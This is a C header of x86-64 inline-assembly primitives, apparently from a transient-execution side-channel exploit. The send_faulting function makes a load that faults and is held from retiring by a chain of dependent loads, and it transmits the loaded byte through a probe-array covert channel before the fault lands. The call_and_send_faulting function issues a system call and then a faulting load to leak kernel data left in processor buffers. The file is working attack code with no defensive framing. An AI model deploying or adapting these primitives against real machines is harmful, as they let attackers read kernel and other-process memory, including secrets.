/* Loads that fault, whose value is sent before the fault is taken. */
#ifndef FAULTING_H
#define FAULTING_H

#include "channel.h"
#include "fault.h"

/* Lines of zeros that delay what depends on them while they are flushed. */
enum { DELAYS = 4, DELAY_BYTES = 64 };

static uint64_t delays[DELAYS][DELAY_BYTES / 8] __attribute__((aligned(64), unused));

static inline void flush_delays(void)
{
	for (int i = 0; i < DELAYS; i++)
		flush(delays[i]);
	memory_fence();
}

/*
 * A first load that faults, kept from retiring for three accesses to memory; one access later a
 * second one, whose value is sent. If the first had to fetch the line, the second finds it.
 */
static inline void send_faulting(const void *address, const uint8_t *probe)
{
	__asm__ volatile(
		RESUME_AT_9
		"mov (%[delays]), %%rcx\n\t"
		"mov 64(%[delays], %%rcx), %%rcx\n\t"
		"mov 128(%[delays], %%rcx), %%rcx\n\t"
		"movzbl (%[address]), %%eax\n\t"
		"mov 192(%[delays]), %%rcx\n\t"
		"movzbl (%[address], %%rcx), %%eax\n\t"
		SEND_BYTE
		RESUMED
		:
		: [address] "r"(address), [probe] "r"(probe), [delays] "r"(delays)
		: "rax", "rcx", "memory", "cc");
}

/*
 * One load that faults right after a system call with up to three arguments: what the kernel did last is still
 * in the buffers of the processor.
 */
static inline void call_and_send_faulting(long number, long first, const void *second, long third,
					  const void *address, const uint8_t *probe)
{
	register const uint8_t *probe_register __asm__("r8") = probe;
	register const void *address_register __asm__("r9") = address;

	__asm__ volatile(
		RESUME_AT_9
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		"movzbl (%[address]), %%eax\n\t"
		SEND_BYTE
		RESUMED
		:
		: [number] "r"(number), "D"(first), "S"(second), "d"(third), [address] "r"(address_register),
		  [probe] "r"(probe_register)
		: "rax", "rcx", "r11", "memory", "cc");
}

#endif
